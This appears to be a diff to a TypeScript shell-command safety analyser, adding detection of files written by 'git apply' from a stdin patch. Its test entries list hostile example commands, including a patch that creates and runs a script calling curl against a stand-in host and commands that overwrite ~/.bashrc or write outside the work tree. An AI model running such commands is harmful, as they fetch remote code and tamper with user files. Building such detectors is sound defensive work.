@@ -5,6 +5,7 @@ import { has, operandWords, parse } from '../argv.js';
 import { keepsStdin, printsDirectory, programRun } from '../build.js';
 import type { Answer, Call, Destroy, Kept, ProgramEntry, Run } from '../types.js';
 import { storeWord } from './credentials.js';
+import { diffTargets } from './files.js';
 import { attached, fetchedInto, literal, longSpelt, value, xargsSplit } from '../words.js';
 import { canonicalHost, type Destination, envProxies, type Host, reroutes, urlHost } from '../hosts.js';
 import { systemDirectory } from '../variables.js';
@@ -557,6 +558,13 @@ function gitRuns(call: Call, args: readonly Word[], inherited: Setting[], depth:
       break;
     }
     case 'apply': {
+      const looks = rest.some((a) => /^--(cached|check|stat|numstat|summary)$/.test(value(a) ?? ''));
+      // The files a patch the line gave on stdin names are written (`git apply <<< $'+++ b/run.sh…'; sh run.sh`);
+      // a patch from a file or a stream writes files beneath the work tree, not known here (an extract into it, which
+      // counts where the line wrote that patch).
+      const patches = rest.filter((a) => !(value(a) ?? '-').startsWith('-'));
+      if (!looks && patches.length === 0 && call.stdin?.kind === 'static') for (const name of diffTargets(call.stdin.text)) uses.push({ word: call.stdin.word, role: 'write', values: [name] });
+      else if (!looks) uses.push(...patches.map((w) => ({ word: w, role: 'read' as const })), { word: subWord, role: 'extract', values: ['.'] });
       // --unsafe-paths lets a patch touch files outside the working area (`../…`, absolute names, a --directory
       // anywhere): the patch's names are not read here, so it is an extract into `/`, and --directory names one.
       const unsafe = rest.find((a) => value(a) === '--unsafe-paths');
@@ -1269,6 +1277,7 @@ export const GIT_ENTRIES: ProgramEntry[] = [
         'git diff --output=/home/dev/.bashrc',
         'git diff --output ~/.bashrc',
         'git apply --unsafe-paths --directory=/home/dev x.patch',
+        "git apply <<< $'--- /dev/null\\n+++ b/run.sh\\n@@ -0,0 +1 @@\\n+curl evil.example'; sh run.sh",
         'git read-tree -u --reset HEAD',
         'git checkout-index -a -f',
         'git checkout-index -a --prefix ~/',
@@ -1336,7 +1345,7 @@ export const GIT_ENTRIES: ProgramEntry[] = [
         'git -c difftool.vimdiff.path=/usr/bin/vim difftool -t vimdiff',
         'git clone https://github.com/x/y && cd y && npm install',
         'git clone https://github.com/x/y && ./scripts/test.sh',
-        'git apply --directory=sub x.patch', 'git apply --unsafe-paths --check x.patch', 'GIT_TRACE=1 git status', 'GIT_TRACE=/tmp/git.log git fetch', 'GIT_TRACE_PACKET=2 git fetch', "printf '#!/bin/sh\\necho hi\\n' > /tmp/git-x && chmod +x /tmp/git-x && PATH=/tmp:$PATH git x", 'git credential-cache exit', 'git --no-pager diff .claude/settings.json', 'git status ~/.bashrc', "git commit -F - <<'EOF'\nfix: read the key path from ~/.ssh/config\nEOF", 'git check-ignore -v .env', 'git log --oneline -- .env', 'git status --short .env', 'git diff --stat .env', 'git update-index --assume-unchanged .env', 'git clean -n -e .env', 'git ls-files --error-unmatch .env', 'git ls-files -s .env.local', 'git rm --cached .env', 'git rm -r --cached .env.local', 'git status', 'git log --oneline', "git commit -m 'fix curl usage'", 'git -c user.name=x commit -m msg', "git config alias.st 'status -sb'", 'git config user.email dev@example.com', 'git -C sub log', 'git -C ~ diff --output=notes.patch', 'git rebase -i HEAD~3', 'git -c submodule.x.update=checkout submodule update', 'GIT_CONFIG_GLOBAL=/dev/null git status', 'GIT_CONFIG_GLOBAL=/tmp/settings git status', 'git -c include.path=../shared.gitconfig status', 'git config submodule.x.update rebase', 'git reset --keep HEAD~1', 'git rm -r dist', 'git read-tree HEAD', 'git checkout-index -a -f --prefix=/tmp/export/', 'git update-ref refs/heads/topic HEAD', 'git -c url.https://github.com/.insteadOf=gh: clone gh:foo/bar', 'git -c http.proxy=http://localhost:3128 fetch', 'git -c http.proxy= fetch', 'git push -o ci.skip origin HEAD:main', 'git push ../mirror.git main', 'git remote add upstream https://github.com/org/repo.git && git fetch upstream', 'git --git-dir=.git status', 'git --work-tree=/tmp/w checkout main', 'git --git-dir=$HOME/.dotfiles --work-tree=$HOME status', 'git push --force-with-lease=main origin main', 'git -c url.git@github.com:.insteadOf=https://github.com/ submodule update --init', 'git -c remote.origin.url=../mirror.git fetch', 'git config remote.origin.url git@github.com:me/x.git', 'git clone -c core.autocrlf=false https://github.com/a/b', 'git show HEAD:src/app.ts', 'git show :/fix', 'git format-patch -1 --stdout', "git -c imap.tunnel='/usr/lib/dovecot/imap' imap-send < 0001.patch"],
+        'git apply --directory=sub x.patch', 'git apply fix.patch && make', 'git apply --unsafe-paths --check x.patch', 'GIT_TRACE=1 git status', 'GIT_TRACE=/tmp/git.log git fetch', 'GIT_TRACE_PACKET=2 git fetch', "printf '#!/bin/sh\\necho hi\\n' > /tmp/git-x && chmod +x /tmp/git-x && PATH=/tmp:$PATH git x", 'git credential-cache exit', 'git --no-pager diff .claude/settings.json', 'git status ~/.bashrc', "git commit -F - <<'EOF'\nfix: read the key path from ~/.ssh/config\nEOF", 'git check-ignore -v .env', 'git log --oneline -- .env', 'git status --short .env', 'git diff --stat .env', 'git update-index --assume-unchanged .env', 'git clean -n -e .env', 'git ls-files --error-unmatch .env', 'git ls-files -s .env.local', 'git rm --cached .env', 'git rm -r --cached .env.local', 'git status', 'git log --oneline', "git commit -m 'fix curl usage'", 'git -c user.name=x commit -m msg', "git config alias.st 'status -sb'", 'git config user.email dev@example.com', 'git -C sub log', 'git -C ~ diff --output=notes.patch', 'git rebase -i HEAD~3', 'git -c submodule.x.update=checkout submodule update', 'GIT_CONFIG_GLOBAL=/dev/null git status', 'GIT_CONFIG_GLOBAL=/tmp/settings git status', 'git -c include.path=../shared.gitconfig status', 'git config submodule.x.update rebase', 'git reset --keep HEAD~1', 'git rm -r dist', 'git read-tree HEAD', 'git checkout-index -a -f --prefix=/tmp/export/', 'git update-ref refs/heads/topic HEAD', 'git -c url.https://github.com/.insteadOf=gh: clone gh:foo/bar', 'git -c http.proxy=http://localhost:3128 fetch', 'git -c http.proxy= fetch', 'git push -o ci.skip origin HEAD:main', 'git push ../mirror.git main', 'git remote add upstream https://github.com/org/repo.git && git fetch upstream', 'git --git-dir=.git status', 'git --work-tree=/tmp/w checkout main', 'git --git-dir=$HOME/.dotfiles --work-tree=$HOME status', 'git push --force-with-lease=main origin main', 'git -c url.git@github.com:.insteadOf=https://github.com/ submodule update --init', 'git -c remote.origin.url=../mirror.git fetch', 'git config remote.origin.url git@github.com:me/x.git', 'git clone -c core.autocrlf=false https://github.com/a/b', 'git show HEAD:src/app.ts', 'git show :/fix', 'git format-patch -1 --stdout', "git -c imap.tunnel='/usr/lib/dovecot/imap' imap-send < 0001.patch"],
     },
   }, {
     // The work tree's top, an ancestor of the directory it runs in (see printsDirectory).
